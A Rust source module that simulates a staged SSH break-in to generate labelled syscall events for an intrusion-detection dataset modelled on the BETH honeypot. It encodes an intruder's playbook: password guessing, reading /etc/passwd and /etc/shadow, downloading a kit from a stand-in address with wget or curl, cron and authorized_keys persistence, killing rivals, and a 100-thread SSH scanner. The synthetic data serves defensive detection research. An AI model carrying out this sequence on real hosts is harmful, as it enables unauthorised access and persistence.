//! The staged break-in on the test host.
//!
//! A stranger guesses passwords, gets in as a new user, looks around, downloads and unpacks a kit,
//! makes sure to come back (a cron job, a key), and starts a scanner whose hundred threads connect to
//! other hosts until the recording ends; guesses go on, and at times the intruder looks in again.
//! BETH's
//! honeypot saw a break-in of this kind (Highnam et al. 2021).
//!
//! Labels: what the intruder's shell and its children do is `evil` and `sus`. sshd's part of the
//! intruder's logins and guesses, and the service manager and greeting started for them, are `sus`
//! only.

use super::call::{ACCESS_DENIED, ALREADY, IN_PROGRESS, NOT_PERMITTED, REFUSED};
use super::files::{APPEND, CREATE, READ};
use super::host::{Counts, Host};
use super::process::Task;
use super::remote::{Account, LoginLabels, Session, Visitor};
use super::services::Services;
use super::text::Label;
use super::tools::{self, Tool};

/// Shares of the test split's events, per mille: near BETH's 838 evil and 69 suspicious only.
const EVIL_SHARE: u64 = 830;
const SUSPICIOUS_SHARE: u64 = 70;
const BENIGN_SHARE: u64 = 1_000 - EVIL_SHARE - SUSPICIOUS_SHARE;
/// The break-in begins after this share of the benign events, per mille.
const QUIET_SHARE: u64 = 300;

/// A login of the intruder takes about 800 events: recordings of fewer events than this begin after it.
const SHORT: u64 = 5_000;

const INTRUDER: Account = Account {
    user: 1_001,
    home: "/home/backup",
};
const LABELS: LoginLabels = LoginLabels {
    monitor: Label::Suspicious,
    manager: Label::Suspicious,
    shell: Label::Evil,
};
/// The file of password hashes, which only root may read.
const SHADOW: &str = "/etc/shadow";
const KIT: &str = "/tmp/.X19-unix";
const ARCHIVE: &str = "kit.tar.gz";
const KIT_FILES: [&str; 8] = [
    "run",
    "sweepd",
    "targets",
    "stop",
    "lib/libc.so.6",
    "lib/libm.so.6",
    "init",
    "upd",
];
const THREADS: usize = 100;
/// The most calls the scanner makes in one step.
const BURST: u64 = 4_000;

/// What the intruder types to learn about the host, in this order; each command with its argument.
static LOOK_AROUND: [(&Tool, &str); 19] = [
    (&tools::W, "-h"),
    (&tools::UNAME, "-a"),
    (&tools::CAT, "/proc/cpuinfo"),
    (&tools::LS, "-lah"),
    (&tools::WHOAMI, "--"),
    (&tools::FREE, "-m"),
    (&tools::LSCPU, "-J"),
    (&tools::PS, "x"),
    (&tools::GREP, "/proc/meminfo"),
    (&tools::ID, "-u"),
    (&tools::CRONTAB, "-l"),
    (&tools::WHO, "-a"),
    (&tools::CAT, "/etc/passwd"),
    (&tools::PASSWD, "backup"),
    (&tools::DF, "-h"),
    (&tools::TOP, "-bn1"),
    (&tools::HEAD, "/etc/os-release"),
    (&tools::CAT, SHADOW),
    (&tools::LS, "/var/tmp"),
];

#[derive(Clone, Copy)]
enum Stage {
    /// Nothing has happened yet; the session if there is one from before the recording.
    Waiting(Option<Session>),
    /// Passwords are tried; `left` more visitors come after this one.
    Guessing {
        visitor: Visitor,
        left: u32,
    },
    LookingAround {
        session: Session,
        next: usize,
    },
    Downloading(Session),
    Unpacking(Session),
    Persisting(Session),
    Launching(Session),
    Away,
    Visiting {
        session: Session,
        left: u32,
    },
}

/// The intruder's state between two steps.
pub(super) struct Campaign {
    stage: Stage,
    /// When the stage goes on, in microseconds since boot. The scanner does not wait for it.
    due: u64,
    scanner: Option<Scanner>,
}

impl Campaign {
    /// A campaign that has not begun. A recording too short to hold a login finds the intruder
    /// logged in already.
    pub(super) fn new(host: &mut Host<'_, '_>, services: &Services) -> Self {
        let session = (host.share() < SHORT).then(|| host.boot_session(services, INTRUDER, LABELS));
        Self {
            stage: Stage::Waiting(session),
            due: 0,
            scanner: None,
        }
    }

    /// True once the intruder's cron job is in place.
    pub(super) fn persists(&self) -> bool {
        self.scanner.is_some()
    }

    /// Goes on by a moment; the wait until the next one, in microseconds.
    pub(super) fn step(&mut self, host: &mut Host<'_, '_>, services: &Services) -> u64 {
        if let Some(scanner) = &mut self.scanner {
            scanner.keep_up(host);
        }
        if host.now() >= self.due {
            self.stage = self.next_stage(host, services);
            self.due = host.now() + host.random.around(500_000);
        }
        host.random.around(250_000)
    }

    fn next_stage(&mut self, host: &mut Host<'_, '_>, services: &Services) -> Stage {
        match self.stage {
            Stage::Waiting(Some(session)) => {
                // However few events there are, some are benign.
                host.systemd_round(services);
                Stage::LookingAround { session, next: 1 }
            }
            Stage::Waiting(None) if too_early(host) => self.stage,
            Stage::Waiting(None) => guess(host, services, (host.share() / 15_000).min(5) as u32),
            Stage::Guessing { visitor, left } => self.guess_on(host, services, visitor, left),
            Stage::LookingAround { session, next } => look_around(host, session, next),
            Stage::Downloading(session) => download(host, session),
            Stage::Unpacking(session) => unpack(host, session),
            Stage::Persisting(session) => persist(host, session),
            Stage::Launching(session) => {
                self.scanner = Some(Scanner::launch(host, session));
                host.log_out(services, session, INTRUDER);
                Stage::Away
            }
            Stage::Away if per_mille(host.counts().suspicious, host) >= SUSPICIOUS_SHARE => {
                Stage::Away
            }
            Stage::Away if host.random.one_in(4) => {
                let session = host.log_in(services, INTRUDER, LABELS);
                Stage::Visiting {
                    session,
                    left: host.random.between(2, 7),
                }
            }
            Stage::Away => guess(host, services, 0),
            Stage::Visiting { session, left } => visit(host, services, session, left),
        }
    }

    fn guess_on(
        &self,
        host: &mut Host<'_, '_>,
        services: &Services,
        visitor: Visitor,
        left: u32,
    ) -> Stage {
        match host.wrong_password(services, visitor) {
            Some(visitor) => Stage::Guessing { visitor, left },
            None if left > 0 => guess(host, services, left - 1),
            None if self.scanner.is_some() => Stage::Away,
            None => Stage::LookingAround {
                session: host.log_in(services, INTRUDER, LABELS),
                next: 0,
            },
        }
    }
}

/// True while there are too few ordinary events for a background.
fn too_early(host: &Host<'_, '_>) -> bool {
    per_mille(host.counts().benign, host) < BENIGN_SHARE * QUIET_SHARE / 1_000
}

fn per_mille(part: u64, host: &Host<'_, '_>) -> u64 {
    part * 1_000 / host.share()
}

fn guess(host: &mut Host<'_, '_>, services: &Services, left: u32) -> Stage {
    Stage::Guessing {
        visitor: host.visitor(services, Label::Suspicious),
        left,
    }
}

/// One command; how many there are depends on how long the recording is.
fn look_around(host: &mut Host<'_, '_>, session: Session, next: usize) -> Stage {
    let commands = (host.share() as usize / 1_000).clamp(3, LOOK_AROUND.len());
    let Some(&(tool, argument)) = LOOK_AROUND[..commands].get(next) else {
        return Stage::Downloading(session);
    };
    if next % 5 == 4 {
        let tools: [(&Tool, &[&str]); 3] = [
            (tool, &[argument]),
            (&tools::GREP, &["-v", "root"]),
            (&tools::WC, &["-l"]),
        ];
        host.pipeline(session.shell, &tools);
    } else {
        host.command_with(session.shell, tool, &[argument], |host, task| {
            if argument == SHADOW {
                host.open_fails(task, SHADOW, READ, ACCESS_DENIED);
            } else if argument.starts_with("/proc/") || argument.starts_with("/etc/") {
                host.read(task, argument);
            }
        });
    }
    Stage::LookingAround {
        session,
        next: next + 1,
    }
}

fn download(host: &mut Host<'_, '_>, session: Session) -> Stage {
    host.command(session.shell, &tools::MKDIR, &["-p", KIT]);
    let tool = host.random.pick(&[&tools::WGET, &tools::CURL]);
    host.command_with(
        session.shell,
        tool,
        &["http://198.51.100.77/kit.tar.gz"],
        |host, task| {
            host.resolve_name(task);
            let fd = host.socket(task, "AF_INET", "SOCK_STREAM");
            let server = host.internet([198, 51, 100, 77], 80);
            host.connect(task, fd, &server, 0);
            host.write(task, &format!("{KIT}/{ARCHIVE}"), CREATE);
            host.close(task, fd);
        },
    );
    Stage::Unpacking(session)
}

fn unpack(host: &mut Host<'_, '_>, session: Session) -> Stage {
    let shell = session.shell;
    host.command_with(shell, &tools::TAR, &["xzf", ARCHIVE], |host, task| {
        host.read(task, &format!("{KIT}/{ARCHIVE}"));
        host.run(task, &tools::GZIP, &["-d"]);
        for file in KIT_FILES {
            let path = format!("{KIT}/{file}");
            host.unlink_missing(task, &path);
            host.write_private(task, &path);
            host.lchown(task, &path, INTRUDER.user);
        }
    });
    host.command_with(shell, &tools::RM, &["-f", ARCHIVE], |host, task| {
        host.unlinkat(task, KIT, ARCHIVE);
    });
    host.command(shell, &tools::MV, &["init", ".init"]);
    host.command(shell, &tools::CHMOD, &["+x", "run", "sweepd"]);
    Stage::Persisting(session)
}

fn persist(host: &mut Host<'_, '_>, session: Session) -> Stage {
    host.command_with(session.shell, &tools::CRONTAB, &["upd"], |host, task| {
        host.read(task, &format!("{KIT}/upd"));
        host.write_private(task, "/var/spool/cron/crontabs/tmp.q8RzZk");
        host.stat(task, "/var/spool/cron/crontabs", true);
    });
    let keys = format!("{}/.ssh", INTRUDER.home);
    host.command_with(session.shell, &tools::RM, &["-rf", ".ssh"], |host, task| {
        host.unlinkat(task, &keys, "authorized_keys");
    });
    host.command(session.shell, &tools::MKDIR, &[".ssh"]);
    host.write(session.shell, &format!("{keys}/authorized_keys"), APPEND);
    host.command(session.shell, &tools::CHMOD, &["-R", "go=", ".ssh"]);
    Stage::Launching(session)
}

/// The intruder looks whether all is well.
fn visit(host: &mut Host<'_, '_>, services: &Services, session: Session, left: u32) -> Stage {
    if left == 0 {
        host.log_out(services, session, INTRUDER);
        return Stage::Away;
    }
    let (tool, argument) = host.random.pick(&LOOK_AROUND);
    host.command(session.shell, tool, &[argument]);
    Stage::Visiting {
        session,
        left: left - 1,
    }
}

/// The intruder's cron job, run by the host's own cron.
pub(super) fn intruders_job(host: &mut Host<'_, '_>, services: &Services) {
    let (child, job) = host.cron_child(services, "/var/spool/cron/crontabs/backup", INTRUDER.user);
    host.tasks.set_label(job, Label::Evil);
    host.become_script(job, |host, shell| {
        host.read(shell, &format!("{KIT}/upd"));
        host.pipeline(shell, &[(&tools::PS, &["x"]), (&tools::GREP, &["sweepd"])]);
    });
    host.exit(child);
}

/// A connection that is not there yet: socket and address.
type Attempt = (i64, [u8; 4]);

/// The scanner: one process, many threads, each with one connection attempt at a time.
struct Scanner {
    /// Each thread with what it is busy with.
    attempts: Vec<(Task, Option<Attempt>)>,
    launched_at: Counts,
}

impl Scanner {
    /// Starts from the intruder's shell, by a script that first stops what it takes for rivals.
    fn launch(host: &mut Host<'_, '_>, session: Session) -> Self {
        host.search_path(session.shell, &tools::NOHUP);
        let script = host.fork(session.shell);
        host.become_tool(script, &tools::NOHUP, &["./run"]);
        host.exec(script, "/bin/bash", &["bash", "./run"]);
        host.load(script, &["libtinfo", "libdl", "libc"]);
        for rival in host.tasks.ids().into_iter().rev().take(6) {
            host.kill(script, rival, 9, NOT_PERMITTED);
        }
        host.command(script, &tools::SLEEP, &["1"]);
        let scanner = host.fork(script);
        host.exec(
            scanner,
            &format!("{KIT}/sweepd"),
            &["./sweepd", "-t", "100", "-p", "22"],
        );
        host.load(scanner, &["libpthread", "libc"]);
        host.read(scanner, &format!("{KIT}/targets"));
        let mut start = |_| {
            let thread = host.start_thread(scanner);
            host.set_name(thread, "sweepd");
            (thread, None)
        };
        let attempts = (0..THREADS).map(&mut start).collect();
        host.exit(script);
        Self {
            attempts,
            launched_at: host.counts(),
        }
    }

    /// Scans until evil events have come as far towards their share as benign ones towards theirs.
    fn keep_up(&mut self, host: &mut Host<'_, '_>) {
        let (counts, then) = (host.counts(), self.launched_at);
        let benign_goal = (host.share() * BENIGN_SHARE / 1_000)
            .saturating_sub(then.benign)
            .max(1);
        let evil_goal = (host.share() * EVIL_SHARE / 1_000).saturating_sub(then.evil);
        let due = then.evil + evil_goal * (counts.benign - then.benign) / benign_goal;
        for _ in 0..due.saturating_sub(counts.evil).clamp(20, BURST) {
            self.advance(host);
        }
    }

    /// One thread goes on: a new socket, or another look at one whose connection is not there yet.
    fn advance(&mut self, host: &mut Host<'_, '_>) {
        let place = host.random.below(self.attempts.len() as u32) as usize;
        let (thread, attempt) = &mut self.attempts[place];
        let Some((fd, address)) = *attempt else {
            let [network, last, ..] = host.random.bits().to_le_bytes();
            let address = [192, 168, network % 32, last];
            let fd = host.socket(*thread, "AF_INET", "SOCK_STREAM");
            let peer = host.internet(address, 22);
            host.connect(*thread, fd, &peer, IN_PROGRESS);
            *attempt = Some((fd, address));
            return;
        };
        let returns = match host.random.below(64) {
            0 => REFUSED,
            1 => 0,
            _ => ALREADY,
        };
        let peer = host.internet(address, 22);
        host.connect(*thread, fd, &peer, returns);
        if returns != ALREADY {
            host.close(*thread, fd);
            *attempt = None;
        }
    }
}
